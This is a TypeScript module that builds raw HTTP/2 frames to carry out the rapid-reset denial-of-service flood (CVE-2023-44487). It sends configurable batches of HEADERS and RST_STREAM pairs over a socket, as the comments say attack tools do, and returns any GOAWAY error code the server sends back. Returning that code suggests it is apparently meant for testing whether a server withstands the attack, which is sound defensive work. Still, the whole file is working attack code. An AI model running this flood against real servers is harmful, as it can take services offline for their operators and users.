// HTTP/2 frames written by hand, for attacks a client library will not make: a rapid-reset flood
// (HEADERS immediately followed by RST_STREAM, CVE-2023-44487) exactly as the attack tools send it.
// Node's client drops a stream reset before its HEADERS left the socket, so it cannot flood.
import type { Duplex } from "node:stream";

const PREFACE = Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");
const HEADERS = 0x1;
const RST_STREAM = 0x3;
const SETTINGS = 0x4;
const GOAWAY = 0x7;
const END_HEADERS = 0x4;
const CANCEL = 0x8;
/** HPACK static table: :method POST (3), :scheme http (6) / https (7), :path / (4). */
const REQUEST_BLOCK = (tls: boolean) => Buffer.from([0x83, tls ? 0x87 : 0x86, 0x84]);

function frame(type: number, flags: number, streamId: number, payload: Buffer): Buffer {
  const header = Buffer.alloc(9);
  header.writeUIntBE(payload.length, 0, 3);
  header.writeUInt8(type, 3);
  header.writeUInt8(flags, 4);
  header.writeUInt32BE(streamId & 0x7fffffff, 5);
  return Buffer.concat([header, payload]);
}

/**
 * Sends `count` HEADERS+RST_STREAM pairs, `batch` per write with a turn of the event loop between
 * (as an attack tool streams them; one huge write only trips nghttp2's own invalid-frame limit,
 * which closes the connection without a GOAWAY over TLS). Resolves with the GOAWAY error code the server sent, or undefined if it sent none before closing or `timeoutMs`. */
export function rapidResetFlood(socket: Duplex, options: { count: number; batch: number; tls: boolean; timeoutMs: number }): Promise<number | undefined> {
  return new Promise((resolve) => {
    let received = Buffer.alloc(0);
    let done = false;
    const timer = setTimeout(() => finish(undefined), options.timeoutMs);
    const finish = (code: number | undefined) => {
      done = true;
      clearTimeout(timer);
      socket.destroy();
      resolve(code);
    };
    socket.on("error", () => undefined);
    socket.on("close", () => finish(undefined));
    socket.on("data", (chunk: Buffer) => {
      received = Buffer.concat([received, chunk]);
      while (received.length >= 9) {
        const length = received.readUIntBE(0, 3);
        if (received.length < 9 + length) break;
        if (received.readUInt8(3) === GOAWAY) return finish(received.readUInt32BE(9 + 4));
        received = received.subarray(9 + length);
      }
    });
    const rst = Buffer.alloc(4);
    rst.writeUInt32BE(CANCEL);
    const block = REQUEST_BLOCK(options.tls);
    socket.write(Buffer.concat([PREFACE, frame(SETTINGS, 0, 0, Buffer.alloc(0))]));
    let id = 1;
    const sendBatch = (left: number): void => {
      if (done || left <= 0) return;
      const pairs: Buffer[] = [];
      for (let i = 0; i < Math.min(options.batch, left); i++, id += 2) pairs.push(frame(HEADERS, END_HEADERS, id, block), frame(RST_STREAM, 0, id, rst));
      socket.write(Buffer.concat(pairs), () => setImmediate(() => sendBatch(left - options.batch)));
    };
    sendBatch(options.count);
  });
}
